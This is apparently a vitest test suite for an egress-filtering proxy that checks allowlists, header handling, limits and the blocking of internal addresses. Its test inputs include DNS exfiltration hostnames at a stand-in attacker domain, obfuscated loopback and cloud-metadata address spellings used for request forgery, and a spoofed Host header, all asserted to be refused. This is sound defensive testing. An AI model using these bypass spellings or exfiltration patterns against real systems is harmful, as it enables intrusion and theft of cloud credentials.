import { mkdtempSync, rmSync } from 'node:fs';
import { createServer as createHttpsServer } from 'node:https';
import {
  type AddressInfo,
  createServer as createNetServer,
  type Server as NetServer,
  connect as netConnect,
} from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  connectVia,
  requestText,
  startHttpUpstream,
  startUpstream,
  tlsVia,
  type Upstream,
  viaProxy,
} from '../../test/support/egress-harness.js';
import { createCertificateAuthority } from './certificates.js';
import type { EgressPolicy } from './policy.js';
import {
  createEgressProxy,
  type EgressAuditRecord,
  type EgressProxy,
  type EgressProxyOptions,
} from './proxy.js';

/** A TCP listener that counts the connections it gets (and never answers). */
async function countingListener(
  host = '127.0.0.1',
): Promise<{ server: NetServer; port: number; connections: () => number }> {
  let connections = 0;
  const server = createNetServer((socket) => {
    connections++;
    socket.destroy();
  });
  await new Promise<void>((resolve) => server.listen(0, host, resolve));
  return { server, port: (server.address() as AddressInfo).port, connections: () => connections };
}

async function canListenOnIpv6Loopback(): Promise<boolean> {
  const server = createNetServer();
  return new Promise((resolve) => {
    server.once('error', () => resolve(false));
    server.listen(0, '::1', () => server.close(() => resolve(true)));
  });
}

describe('egress proxy: reachability, addresses, tunnels, limits', () => {
  let directory: string;
  let plain: Upstream;
  let secure: Upstream;
  let upstreamCaPem: string;
  const records: EgressAuditRecord[] = [];
  const lookups: string[] = [];
  const proxies: EgressProxy[] = [];
  let proxy: EgressProxy;
  const policy: EgressPolicy = {
    networking: {
      type: 'limited',
      allowedHosts: ['plain.test', 'open.test', '*.wild.test', 'loop.test', 'closed.test'],
      allowPackageManagers: false,
    },
    credentials: [],
  };

  /** A proxy in this test's directory; closed after the suite. */
  const start = async (options: Partial<EgressProxyOptions> & { name: string }) => {
    const { name, ...rest } = options;
    const started = await createEgressProxy({
      socketPath: join(directory, `${name}.sock`),
      label: name,
      policy,
      ...rest,
    });
    proxies.push(started);
    return started;
  };

  beforeAll(async () => {
    directory = mkdtempSync(join(tmpdir(), 'berth-egress-'));
    const upstreamCa = await createCertificateAuthority('upstream test CA');
    upstreamCaPem = upstreamCa.certificatePem;
    const openCertificate = await upstreamCa.issue('open.test');
    plain = await startHttpUpstream();
    secure = await startUpstream(
      createHttpsServer({ cert: openCertificate.certificatePem, key: openCertificate.keyPem }),
    );
    proxy = await start({
      name: 'main',
      onRequest: (record) => records.push(record),
      allowPrivateDestinations: [`127.0.0.1:${plain.port}`, `127.0.0.1:${secure.port}`],
      resolve: async (host) => {
        lookups.push(host);
        return ['127.0.0.1'];
      },
    });
  });

  afterAll(async () => {
    for (const started of proxies) await started.close();
    await plain?.close();
    await secure?.close();
    rmSync(directory, { recursive: true, force: true });
  });

  it('forwards plain HTTP to an allowed host and refuses any other with 403 naming the rule', async () => {
    const allowed = await viaProxy(proxy.socketPath, `http://plain.test:${plain.port}/x?y=1`);
    expect(allowed.status).toBe(200);
    expect(plain.seen.at(-1)).toMatchObject({ method: 'GET', url: '/x?y=1' });
    expect(records.at(-1)).toMatchObject({
      method: 'GET',
      host: 'plain.test',
      port: plain.port,
      path: '/x?y=1',
      status: 200,
      decision: 'allowed',
      tls: 'none',
    });

    const subdomain = await viaProxy(proxy.socketPath, `http://a.b.wild.test:${plain.port}/`);
    expect(subdomain.status).toBe(200);

    for (const host of ['wild.test', 'evil.example', 'plain.test.evil.example']) {
      const denied = await viaProxy(proxy.socketPath, `http://${host}:${plain.port}/`);
      expect(denied.status, host).toBe(403);
      expect(denied.body).toContain(`host ${host} is not in the environment's allowed_hosts`);
      expect(records.at(-1)).toMatchObject({ host, decision: 'denied', status: 403 });
    }
    const tunnel = await connectVia(proxy.socketPath, 'evil.example:443');
    expect(tunnel.status).toBe(403);
    expect(tunnel.text).toContain('allowed_hosts');
  });

  it('never looks up a name the policy refuses (no DNS exfiltration)', async () => {
    const before = lookups.length;
    await viaProxy(proxy.socketPath, 'http://c2VjcmV0.exfil.attacker.example/');
    await connectVia(proxy.socketPath, 'c2VjcmV0-2.exfil.attacker.example:443');
    await connectVia(proxy.socketPath, 'PLAIN.TEST.attacker.example:443');
    expect(lookups.slice(before)).toEqual([]);
    expect(records.slice(-3).map((record) => record.decision)).toEqual(['denied', 'denied', 'denied']);
    // An allowed name is looked up once per request, by the proxy.
    await viaProxy(proxy.socketPath, `http://PLAIN.test.:${plain.port}/`);
    expect(lookups.slice(before)).toEqual(['plain.test']);
  });

  it('never reaches loopback, private, link-local or metadata addresses, however they are spelled', async () => {
    const target = await countingListener();
    const names: Record<string, string[]> = {
      'loopback.test': ['127.0.0.1'],
      'metadata.test': ['169.254.169.254'],
      'private.test': ['10.0.0.7'],
      'cgnat.test': ['100.64.1.1'],
      'v6-loopback.test': ['::1'],
      'v6-mapped.test': ['::ffff:127.0.0.1'],
      'v6-link-local.test': ['fe80::1'],
      'v6-unique-local.test': ['fd00::1'],
      'nat64-loopback.test': ['64:ff9b::7f00:1'],
    };
    const resolved: string[] = [];
    const open = await start({
      name: 'open',
      policy: { networking: { type: 'unrestricted' }, credentials: [] },
      resolve: async (host) => {
        resolved.push(host);
        return names[host] ?? [];
      },
    });
    const port = target.port;
    const literals = [
      `127.0.0.1:${port}`,
      `127.0.0.2:${port}`,
      `2130706433:${port}`,
      `0x7f.1:${port}`,
      `017700000001:${port}`,
      `127.1:${port}`,
      `0.0.0.0:${port}`,
      `[::1]:${port}`,
      `[0:0:0:0:0:0:0:1]:${port}`,
      `[::ffff:127.0.0.1]:${port}`,
      `[::ffff:7f00:1]:${port}`,
      `[::]:${port}`,
      '169.254.169.254:80',
      '[fe80::1]:443',
      '10.0.0.1:443',
      '192.168.1.1:443',
      '172.16.0.1:443',
      '100.64.0.1:443',
    ];
    for (const authority of literals) {
      const tunnel = await connectVia(open.socketPath, authority);
      expect(tunnel.status, authority).toBe(403);
      expect(tunnel.text, authority).toContain('private, loopback or link-local');
    }
    // Literals are checked as addresses: the resolver never hears of them.
    expect(resolved).toEqual([]);
    for (const name of Object.keys(names)) {
      const tunnel = await connectVia(open.socketPath, `${name}:${port}`);
      expect(tunnel.status, name).toBe(403);
      expect(tunnel.text, name).toContain(`${name} resolves to`);
    }
    for (const url of [
      `http://0x7f.1:${port}/`,
      `http://[::ffff:127.0.0.1]:${port}/`,
      `http://loopback.test:${port}/`,
      'http://169.254.169.254/latest/meta-data/',
      'http://metadata.test/computeMetadata/v1/',
    ]) {
      const answer = await viaProxy(open.socketPath, url, { headers: { 'metadata-flavor': 'Google' } });
      expect(answer.status, url).toBe(403);
    }
    expect(target.connections()).toBe(0);
    target.server.close();
  });

  it('reaches exactly the private address:port pairs the operator listed, and nothing beside them', async () => {
    const sameAddressOtherPort = await countingListener();
    const reachable = await start({
      name: 'operator',
      policy: { networking: { type: 'unrestricted' }, credentials: [] },
      allowPrivateDestinations: [`127.0.0.1:${plain.port}`],
      resolve: async () => ['127.0.0.1'],
    });
    expect((await viaProxy(reachable.socketPath, `http://127.0.0.1:${plain.port}/`)).status).toBe(200);
    expect((await viaProxy(reachable.socketPath, `http://named.test:${plain.port}/`)).status).toBe(200);
    expect((await viaProxy(reachable.socketPath, `http://2130706433:${plain.port}/`)).status).toBe(200);
    expect((await connectVia(reachable.socketPath, `127.0.0.1:${sameAddressOtherPort.port}`)).status).toBe(
      403,
    );
    expect((await connectVia(reachable.socketPath, `127.0.0.2:${plain.port}`)).status).toBe(403);
    expect((await connectVia(reachable.socketPath, `[::ffff:127.0.0.2]:${plain.port}`)).status).toBe(403);
    expect(sameAddressOtherPort.connections()).toBe(0);
    sameAddressOtherPort.server.close();
  });

  it('reaches an IPv6 destination only when listed, by literal or by name', async (context) => {
    if (!(await canListenOnIpv6Loopback())) return context.skip('this machine has no IPv6 loopback');
    const v6 = await startHttpUpstream(undefined, '::1');
    try {
      const closed = await start({
        name: 'v6-closed',
        policy: { networking: { type: 'unrestricted' }, credentials: [] },
        resolve: async () => ['::1'],
      });
      expect((await viaProxy(closed.socketPath, `http://[::1]:${v6.port}/`)).status).toBe(403);
      expect((await viaProxy(closed.socketPath, `http://v6.test:${v6.port}/`)).status).toBe(403);
      const listed = await start({
        name: 'v6-listed',
        policy: { networking: { type: 'unrestricted' }, credentials: [] },
        allowPrivateDestinations: [`[::1]:${v6.port}`],
        resolve: async () => ['::1'],
      });
      expect((await viaProxy(listed.socketPath, `http://[::1]:${v6.port}/`)).status).toBe(200);
      expect((await viaProxy(listed.socketPath, `http://v6.test:${v6.port}/`)).status).toBe(200);
      expect(v6.seen).toHaveLength(2);
    } finally {
      await v6.close();
    }
  });

  it('tunnels HTTPS to an allowed host without opening it: the client sees the upstream certificate', async () => {
    const placeholder = 'berth_placeholder_not_for_this_host';
    const result = await tlsVia(
      proxy.socketPath,
      'open.test',
      secure.port,
      [upstreamCaPem],
      requestText('open.test', { headers: { authorization: `Bearer ${placeholder}` } }),
    );
    if ('error' in result) throw new Error(result.error);
    expect(result.status).toBe(200);
    expect(result.certificate.issuer.CN).toContain('upstream test CA');
    expect(secure.seen.at(-1)!.headers.authorization).toBe(`Bearer ${placeholder}`);
    await expect
      .poll(() => records.at(-1))
      .toMatchObject({
        method: 'CONNECT',
        host: 'open.test',
        tls: 'passthrough',
        decision: 'allowed',
        path: null,
        status: 200,
      });
    const record = records.at(-1)!;
    expect(record.bytesSent).toBeGreaterThan(100);
    expect(record.bytesReceived).toBeGreaterThan(100);
  });

  it('sends the URL’s host upstream, whatever Host header the client wrote', async () => {
    await viaProxy(proxy.socketPath, `http://plain.test:${plain.port}/`, {
      headers: { host: 'evil.example' },
    });
    expect(plain.seen.at(-1)!.headers.host).toBe(`plain.test:${plain.port}`);
  });

  it('drops hop-by-hop headers, including those the Connection header names', async () => {
    await viaProxy(proxy.socketPath, `http://plain.test:${plain.port}/`, {
      headers: {
        connection: 'keep-alive, x-hop',
        'x-hop': 'must not pass',
        'proxy-authorization': 'Basic c2VjcmV0',
        'x-end-to-end': 'kept',
      },
    });
    const headers = plain.seen.at(-1)!.headers;
    expect(headers['x-hop']).toBeUndefined();
    expect(headers['proxy-authorization']).toBeUndefined();
    expect(headers['x-end-to-end']).toBe('kept');
  });

  it('applies a new policy to the next request', async () => {
    expect((await viaProxy(proxy.socketPath, `http://closed.test:${plain.port}/`)).status).toBe(200);
    proxy.updatePolicy({
      ...policy,
      networking: { type: 'limited', allowedHosts: ['plain.test'], allowPackageManagers: false },
    });
    try {
      expect((await viaProxy(proxy.socketPath, `http://closed.test:${plain.port}/`)).status).toBe(403);
      expect((await viaProxy(proxy.socketPath, `http://plain.test:${plain.port}/`)).status).toBe(200);
    } finally {
      proxy.updatePolicy(policy);
    }
  });

  it('answers 400 to what is not a proxy request, and 502 when the upstream cannot be reached', async () => {
    const origin = await viaProxy(proxy.socketPath, '/just-a-path');
    expect(origin.status).toBe(400);
    const https = await viaProxy(proxy.socketPath, 'https://open.test/');
    expect(https.status).toBe(400);
    const bad = await connectVia(proxy.socketPath, 'user@open.test:443');
    expect(bad.status).toBe(400);
    expect(records.at(-1)).toMatchObject({ method: 'CONNECT', status: 400, decision: 'denied' });

    const nobody = await countingListener();
    const port = nobody.port;
    await new Promise<void>((resolve) => nobody.server.close(() => resolve()));
    const unreachable = await start({
      name: 'unreachable',
      policy: { networking: { type: 'unrestricted' }, credentials: [] },
      allowPrivateDestinations: [`127.0.0.1:${port}`],
      onRequest: (record) => records.push(record),
      resolve: async () => ['127.0.0.1'],
    });
    const refused = await connectVia(unreachable.socketPath, `gone.test:${port}`);
    expect(refused.status).toBe(502);
    expect(refused.text).toContain('ECONNREFUSED');
    expect(records.at(-1)).toMatchObject({ host: 'gone.test', status: 502, decision: 'allowed' });
  });

  it('closes connections beyond its cap and refuses oversized headers', async () => {
    const capped = await start({
      name: 'capped',
      policy: { networking: { type: 'unrestricted' }, credentials: [] },
      allowPrivateDestinations: [`127.0.0.1:${plain.port}`],
      resolve: async () => ['127.0.0.1'],
      limits: { maxConnections: 2, maxHeaderBytes: 8 * 1024 },
    });
    const first = await connectVia(capped.socketPath, `a.test:${plain.port}`);
    const second = await connectVia(capped.socketPath, `b.test:${plain.port}`);
    expect([first.status, second.status]).toEqual([200, 200]);
    await expect(connectVia(capped.socketPath, `c.test:${plain.port}`)).rejects.toThrow();
    first.socket.destroy();
    second.socket.destroy();
    await expect
      .poll(
        async () => (await connectVia(capped.socketPath, `d.test:${plain.port}`).catch(() => null))?.status,
      )
      .toBe(200);

    const huge = await viaProxy(capped.socketPath, `http://e.test:${plain.port}/`, {
      headers: { 'x-large': 'x'.repeat(16 * 1024) },
    }).catch((error: Error) => ({ status: 0, body: error.message }));
    expect(huge.status).toBe(431);
  });

  it('closes an idle tunnel, but lets a slow upstream take longer than the connect timeout', async () => {
    const slow = await startHttpUpstream((_request, response) => {
      setTimeout(() => response.end('late but fine'), 600);
    });
    const timed = await start({
      name: 'timed',
      policy: { networking: { type: 'unrestricted' }, credentials: [] },
      allowPrivateDestinations: [`127.0.0.1:${plain.port}`, `127.0.0.1:${slow.port}`],
      resolve: async () => ['127.0.0.1'],
      limits: { idleTimeoutMs: 1500, connectTimeoutMs: 200 },
    });
    try {
      const answer = await viaProxy(timed.socketPath, `http://slow.test:${slow.port}/`);
      expect(answer).toMatchObject({ status: 200, body: 'late but fine' });

      const tunnel = await connectVia(timed.socketPath, `idle.test:${plain.port}`);
      expect(tunnel.status).toBe(200);
      const started = Date.now();
      await new Promise((resolve) => tunnel.socket.once('close', resolve));
      expect(Date.now() - started).toBeGreaterThanOrEqual(1000);
    } finally {
      await slow.close();
    }
  });

  it('close() ends open tunnels and requests still waiting for an upstream', async () => {
    const hanging = await startHttpUpstream(() => undefined);
    const upstreamSockets: import('node:net').Socket[] = [];
    hanging.server.on('connection', (socket) => upstreamSockets.push(socket));
    const closing = await createEgressProxy({
      socketPath: join(directory, 'closing.sock'),
      policy: { networking: { type: 'unrestricted' }, credentials: [] },
      allowPrivateDestinations: [`127.0.0.1:${plain.port}`, `127.0.0.1:${hanging.port}`],
      resolve: async () => ['127.0.0.1'],
    });
    const tunnel = await connectVia(closing.socketPath, `held.test:${plain.port}`);
    expect(tunnel.status).toBe(200);
    const tunnelClosed = new Promise((resolve) => tunnel.socket.on('close', resolve));
    const waiting = viaProxy(closing.socketPath, `http://hanging.test:${hanging.port}/`).catch(
      (error: Error) => error,
    );
    await expect.poll(() => hanging.seen.length).toBe(1);

    await closing.close();
    await tunnelClosed;
    expect(await waiting).toBeInstanceOf(Error);
    // The upstream side of the waiting request is closed too, and nothing more gets in.
    await expect.poll(() => upstreamSockets.every((socket) => socket.destroyed)).toBe(true);
    await expect(
      new Promise((resolve, reject) => {
        const socket = netConnect(closing.socketPath);
        socket.on('connect', resolve);
        socket.on('error', reject);
      }),
    ).rejects.toThrow();
    await hanging.close();
  });
});
